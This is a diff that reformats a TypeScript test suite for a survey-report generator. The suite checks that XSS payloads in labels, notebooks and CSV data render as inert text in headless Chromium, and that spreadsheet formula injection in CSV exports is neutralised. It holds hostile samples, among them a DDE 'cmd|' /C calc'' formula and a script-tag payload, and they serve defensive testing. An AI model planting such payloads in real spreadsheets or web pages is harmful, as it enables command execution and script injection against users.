@@ -75,11 +75,25 @@ const markdownTable = `| label | answer |\n|---|---|\n${payloads.map((p) => `| $
 /** A chapter notebook whose every text carries the payloads, in every kind of output. */
 function hostileNotebook(fig: PlotlyFigure): Notebook {
   const table = aq.table({ label: payloads, answer: payloads.map((p) => `free text: ${p}`) });
-  const code = (source: string, outputs: unknown[]) => ({ id: `c${source.length}`, cell_type: "code", metadata: {}, source, execution_count: 1, outputs });
+  const code = (source: string, outputs: unknown[]) => ({
+    id: `c${source.length}`,
+    cell_type: "code",
+    metadata: {},
+    source,
+    execution_count: 1,
+    outputs,
+  });
   return {
-    nbformat: 4, nbformat_minor: 5, metadata: {},
+    nbformat: 4,
+    nbformat_minor: 5,
+    metadata: {},
     cells: [
-      { id: "m1", cell_type: "markdown", metadata: {}, source: `# Title ${all}\n\n- item ${all}\n\n*${payloads[0]}* **${payloads[1]}** \`${payloads[2]}\`\n\n${markdownLinks}\n\n${markdownTable}` },
+      {
+        id: "m1",
+        cell_type: "markdown",
+        metadata: {},
+        source: `# Title ${all}\n\n- item ${all}\n\n*${payloads[0]}* **${payloads[1]}** \`${payloads[2]}\`\n\n${markdownLinks}\n\n${markdownTable}`,
+      },
       code(`console.log(${JSON.stringify(all)})`, [
         { output_type: "stream", name: "stdout", text: `${all}\n` },
         { output_type: "display_data", metadata: {}, data: { "text/plain": `plain ${all}` } },
@@ -93,13 +107,30 @@ function hostileNotebook(fig: PlotlyFigure): Notebook {
 
 /** Verification rows whose texts carry the payloads: id, figure, quote, the note and the values of its parts. */
 function hostileVerification(): Verification[] {
-  return verifyPublished(loadSurvey()).slice(0, 5).map((v, i) => ({ ...v, id: `${v.id}${payloads[i]}`, figure: i % 2 ? "abb-01" : payloads[i + 1]!, quote: all, note: all,
-    noteParts: [notePart("note_reason", { text: all }), notePart("note_share", { variable: payloads[i]!, share: all })] }));
+  return verifyPublished(loadSurvey())
+    .slice(0, 5)
+    .map((v, i) => ({
+      ...v,
+      id: `${v.id}${payloads[i]}`,
+      figure: i % 2 ? "abb-01" : payloads[i + 1]!,
+      quote: all,
+      note: all,
+      noteParts: [
+        notePart("note_reason", { text: all }),
+        notePart("note_share", { variable: payloads[i]!, share: all }),
+      ],
+    }));
 }
 
 /** Tested claims whose id, figure and words carry the payloads. */
 function hostileClaims(): ClaimEvidence[] {
-  return (claimsEvidence(loadSurvey()).objects() as unknown as ClaimEvidence[]).slice(0, 3).map((c, i) => ({ ...c, id: `${c.id}${payloads[i]}`, figure: i ? payloads[i]! : c.figure, claimDe: all, claimEn: all }));
+  return (claimsEvidence(loadSurvey()).objects() as unknown as ClaimEvidence[]).slice(0, 3).map((c, i) => ({
+    ...c,
+    id: `${c.id}${payloads[i]}`,
+    figure: i ? payloads[i]! : c.figure,
+    claimDe: all,
+    claimEn: all,
+  }));
 }
 
 describe("HTML outputs with hostile labels and free text, in headless Chromium", function () {
@@ -113,7 +144,8 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
   before(async function () {
     const exe = chromiumPath();
     if (!exe) {
-      if (process.env.INTERSPIN_REQUIRE_CHROMIUM === "1") throw new Error("INTERSPIN_REQUIRE_CHROMIUM=1 but no Chromium (apt-get install chromium)");
+      if (process.env.INTERSPIN_REQUIRE_CHROMIUM === "1")
+        throw new Error("INTERSPIN_REQUIRE_CHROMIUM=1 but no Chromium (apt-get install chromium)");
       this.skip();
     }
     dir = tempFolder("interspin-xss-");
@@ -127,18 +159,29 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
    * Opens a page from disk, hovers over it, and returns what ran: window.__xss, dialogs, and
    * elements that only markup from data could have made (img, iframe, on* attributes, javascript: links).
    */
-  async function probe(file: string): Promise<{ ran: unknown; dialogs: string[]; injected: string[]; plots: number; errors: string[] }> {
+  async function probe(
+    file: string,
+  ): Promise<{ ran: unknown; dialogs: string[]; injected: string[]; plots: number; errors: string[] }> {
     const page = await browser!.newPage();
     const dialogs: string[] = [];
     const errors: string[] = [];
-    page.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); });
+    page.on("dialog", (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
     page.on("pageerror", (e) => errors.push(String(e)));
     await page.goto(`file://${file}`);
     await page.waitForLoadState("load");
     await page.waitForTimeout(200);
-    for (const [x, y] of [[300, 200], [450, 250], [600, 300], [200, 400]]) await page.mouse.move(x!, y!);
+    for (const [x, y] of [
+      [300, 200],
+      [450, 250],
+      [600, 300],
+      [200, 400],
+    ])
+      await page.mouse.move(x!, y!);
     await page.waitForTimeout(200);
-    const result = await page.evaluate(`(() => {
+    const result = (await page.evaluate(`(() => {
       const injected = [];
       for (const el of document.querySelectorAll("*")) {
         if (["IMG", "IFRAME", "OBJECT", "EMBED"].includes(el.tagName.toUpperCase())) injected.push(el.tagName.toUpperCase());
@@ -147,7 +190,7 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
         if (/^\\s*javascript:/i.test(href)) injected.push(el.tagName + "[href=javascript:]");
       }
       return { ran: window.__xss, injected, plots: document.querySelectorAll(".js-plotly-plot").length };
-    })()`) as { ran: unknown; injected: string[]; plots: number };
+    })()`)) as { ran: unknown; injected: string[]; plots: number };
     await page.close();
     return { ...result, dialogs, errors };
   }
@@ -169,12 +212,21 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
   it("the labels really carry the payloads (figures, captions, hover texts)", () => {
     const json = JSON.stringify(built);
     for (const p of payloads) assert.ok(json.includes(JSON.stringify(p).slice(1, -1)), p);
-    assert.ok(built.every((f) => f.layout.meta.title.startsWith("<") || f.layout.meta.title.startsWith('"') || f.layout.meta.title.startsWith("'")));
+    assert.ok(
+      built.every(
+        (f) =>
+          f.layout.meta.title.startsWith("<") ||
+          f.layout.meta.title.startsWith('"') ||
+          f.layout.meta.title.startsWith("'"),
+      ),
+    );
   });
 
   // One figure of each chart kind here; the book's gallery below draws all of them.
   it("standalone figure pages (Likert by item and by group, heatmap, bars, bars by group): the figure draws and no script from a label runs", async () => {
-    for (const fig of built.filter((f) => ["abb-01", "abb-03", "abb-06", "abb-08", "abb-09"].includes(f.layout.meta.id))) {
+    for (const fig of built.filter((f) =>
+      ["abb-01", "abb-03", "abb-06", "abb-08", "abb-09"].includes(f.layout.meta.id),
+    )) {
       const file = join(dir, `${fig.layout.meta.id}.html`);
       writeFileSync(file, figurePage(fig, "plotly.min.js"));
       const r = await probe(file);
@@ -186,7 +238,13 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
 
   it("notebook text/html of a figure and of a table with free-text answers: nothing runs", async () => {
     const t = aq.table({ label: payloads, answer: payloads.map((p) => `free text: ${p}`) });
-    const body = String(libraryBundle(bundleFor(built.slice(0, 3)))["text/html"]) + built.slice(0, 3).map((f) => figureBundle(f)["text/html"]).join("\n") + tableBundle(t)["text/html"];
+    const body =
+      String(libraryBundle(bundleFor(built.slice(0, 3)))["text/html"]) +
+      built
+        .slice(0, 3)
+        .map((f) => figureBundle(f)["text/html"])
+        .join("\n") +
+      tableBundle(t)["text/html"];
     const file = join(dir, "notebook-outputs.html");
     writeFileSync(file, `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>${body}</body></html>`);
     const r = await probe(file);
@@ -198,8 +256,24 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
     const out = tempFolder("interspin-xss-book-");
     const chapter = { name: "03-partnerwahl", notebook: hostileNotebook(built[0]!) };
     const figureNumbers = new Map(figures.map((f) => [f.id, numberRows(f.numbers(table, { codebook: cb }))]));
-    writeBook({ chapters: [chapter], figures: new Map(built.map((f) => [f.layout.meta.id, f])), figureNumbers, verification: hostileVerification(), lang: "de" }, out);
-    const expected: Record<string, number> = { "03-partnerwahl.html": 1, "gallery.html": 0, ...Object.fromEntries(built.map((f) => [`figure-${f.layout.meta.id}.html`, 1])), "verification.html": 0, "assumptions.html": 0, "index.html": 0 };
+    writeBook(
+      {
+        chapters: [chapter],
+        figures: new Map(built.map((f) => [f.layout.meta.id, f])),
+        figureNumbers,
+        verification: hostileVerification(),
+        lang: "de",
+      },
+      out,
+    );
+    const expected: Record<string, number> = {
+      "03-partnerwahl.html": 1,
+      "gallery.html": 0,
+      ...Object.fromEntries(built.map((f) => [`figure-${f.layout.meta.id}.html`, 1])),
+      "verification.html": 0,
+      "assumptions.html": 0,
+      "index.html": 0,
+    };
     for (const [p, plots] of Object.entries(expected)) {
       const r = await probe(join(out, "site", "de", p));
       assertInert(r, p);
@@ -208,8 +282,14 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
     const html = readFileSync(join(out, "site", "de", "03-partnerwahl.html"), "utf8");
     // The Markdown table is a table, its payloads text; the one safe link is the only link from the Markdown.
     assert.match(html, /<table>\s*<thead>\s*<tr>\s*<th>label<\/th>/);
-    assert.ok(html.includes("<td>&lt;script&gt;(window.__xss=window.__xss||[]).push(&quot;script&quot;)&lt;/script&gt;</td>"), "payload in a table cell is text");
-    assert.deepEqual([...html.matchAll(/<a href="([^"#]*)"/g)].map((m) => m[1]).filter((h) => !h!.endsWith(".html")), ["https://example.org/"]);
+    assert.ok(
+      html.includes("<td>&lt;script&gt;(window.__xss=window.__xss||[]).push(&quot;script&quot;)&lt;/script&gt;</td>"),
+      "payload in a table cell is text",
+    );
+    assert.deepEqual(
+      [...html.matchAll(/<a href="([^"#]*)"/g)].map((m) => m[1]).filter((h) => !h!.endsWith(".html")),
+      ["https://example.org/"],
+    );
   });
 
   it("the verification report page", async () => {
@@ -218,14 +298,24 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
     assertInert(await probe(file), "verification.html");
     const html = readFileSync(file, "utf8");
     assert.ok(html.includes("&lt;script&gt;"), "the payload is shown as text");
-    assert.ok(html.includes(`<p class="vnote"><span>Anmerkung:</span> ${escapeHtml(all)}; ${escapeHtml(payloads[0]!)}=${escapeHtml(all)}</p>`), "a note with payloads in its parts is text");
+    assert.ok(
+      html.includes(
+        `<p class="vnote"><span>Anmerkung:</span> ${escapeHtml(all)}; ${escapeHtml(payloads[0]!)}=${escapeHtml(all)}</p>`,
+      ),
+      "a note with payloads in its parts is text",
+    );
   });
 
   it("a report run on survey data whose free-text ids carry the payloads: no output holds them as markup, no script runs", async () => {
     const data = join(tempFolder("interspin-xss-data-"), "hostile.csv");
     const lines = readFileSync(paths.survey, "utf8").split("\n");
     const cell = (s: string) => `"${s.replace(/"/g, '""')}"`;
-    writeFileSync(data, lines.map((l, i) => (i === 0 || !l ? l : l.replace(/^[^,]*/, (id) => cell(`${id}${payloads[i % payloads.length]}`)))).join("\n"));
+    writeFileSync(
+      data,
+      lines
+        .map((l, i) => (i === 0 || !l ? l : l.replace(/^[^,]*/, (id) => cell(`${id}${payloads[i % payloads.length]}`))))
+        .join("\n"),
+    );
     const out = join(tempFolder("interspin-xss-run-"), "output");
     const r = await runReport(["--data", data, "--out", out, "--no-static", "--chapters", "02"]);
     assert.equal(r.code, 0, r.stderr);
@@ -234,14 +324,25 @@ describe("HTML outputs with hostile labels and free text, in headless Chromium",
       const text = readFileSync(join(out, f), "utf8");
       for (const p of payloads) assert.ok(!text.includes(p), `${f} holds a payload unescaped`);
     }
-    for (const p of ["site/de/02-methodisches-vorgehen.html", "site/en/02-methodisches-vorgehen.html", "site/de/verification.html", "site/de/figure-abb-01.html", "site/en/figure-abb-01.html", "verification.html", "figures/abb-01.html"]) assertInert(await probe(join(out, p)), p);
+    for (const p of [
+      "site/de/02-methodisches-vorgehen.html",
+      "site/en/02-methodisches-vorgehen.html",
+      "site/de/verification.html",
+      "site/de/figure-abb-01.html",
+      "site/en/figure-abb-01.html",
+      "verification.html",
+      "figures/abb-01.html",
+    ])
+      assertInert(await probe(join(out, p)), p);
   });
 
   it("the book shows a notebook's own HTML output as text unless it is exactly a project table", async () => {
     const out = tempFolder("interspin-xss-book-");
     const nb = hostileNotebook(built[0]!);
     const html = `<table class="interspin-table"><tr><td>${payloads[6]}</td></tr></table>`;
-    (nb.cells[1] as { outputs: unknown[] }).outputs = [{ output_type: "display_data", metadata: {}, data: { "text/html": html, "text/plain": "table" } }];
+    (nb.cells[1] as { outputs: unknown[] }).outputs = [
+      { output_type: "display_data", metadata: {}, data: { "text/html": html, "text/plain": "table" } },
+    ];
     writeBook({ chapters: [{ name: "01-x", notebook: nb }], figures: new Map(), verification: [], lang: "de" }, out);
     assertInert(await probe(join(out, "site", "de", "01-x.html")), "own HTML output");
   });
@@ -252,14 +353,24 @@ describe("free-text answers from a LimeSurvey export", () => {
     const text = readFileSync(join(paths.root, "test", "fixtures", "limesurvey", "export.csv"), "utf8");
     const hostile = text.replace('"Verband für Innovation, e.V."', `"${all.replace(/"/g, '""')}"`);
     assert.notEqual(hostile, text, "the fixture has the free-text answer this test replaces");
-    const { table } = readLimeSurvey(Buffer.from(hostile), { mapping: join(paths.root, "test", "fixtures", "limesurvey", "mapping.json"), file: "export.csv" });
+    const { table } = readLimeSurvey(Buffer.from(hostile), {
+      mapping: join(paths.root, "test", "fixtures", "limesurvey", "mapping.json"),
+      file: "export.csv",
+    });
     const json = JSON.stringify(table.objects());
     for (const marker of ["<script", "onerror", "onload", "javascript:"]) assert.ok(!json.includes(marker), marker);
   });
 });
 
 describe("CSV exports against spreadsheet formula injection", () => {
-  const starts = [`=HYPERLINK("http://example.org/?x="&A1,"klick")`, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"];
+  const starts = [
+    `=HYPERLINK("http://example.org/?x="&A1,"klick")`,
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+  ];
   const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
 
   it("neutralise every cell a spreadsheet would evaluate, and keep negative numbers as numbers", () => {
@@ -274,7 +385,10 @@ describe("CSV exports against spreadsheet formula injection", () => {
     const table = loadSurvey();
     for (const f of figures) {
       const text = figureCsv(f.numbers(table, { codebook: cb }));
-      assert.ok(starts.some((s) => text.includes(s.replace(/"/g, '""').trim())), `${f.id}: the labels carry the formulas`);
+      assert.ok(
+        starts.some((s) => text.includes(s.replace(/"/g, '""').trim())),
+        `${f.id}: the labels carry the formulas`,
+      );
       const cells = [...csvRecords(text, `${f.id}.csv`)].flatMap((r) => r.fields);
       const live = cells.filter(isFormula);
       assert.deepEqual(live, [], `${f.id}: cells a spreadsheet would evaluate`);
